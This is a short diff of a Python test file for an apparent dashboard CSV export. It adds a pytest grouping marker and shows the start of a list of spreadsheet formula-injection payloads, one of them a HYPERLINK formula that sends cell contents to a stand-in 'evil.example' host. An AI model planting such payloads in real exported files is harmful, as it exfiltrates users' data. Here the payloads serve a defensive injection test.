@@ -16,6 +16,8 @@ from openusage.store import Store
 from .conftest import start_server
 from .test_dashboard import browser, open_tab, page, shot, sign_in  # noqa: F401 (fixtures)
 
+pytestmark = pytest.mark.xdist_group("dashboard_csv")  # one module fixture, built once
+
 # Each would run as a formula (or a command, through DDE) if a spreadsheet read it verbatim.
 EVIL = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
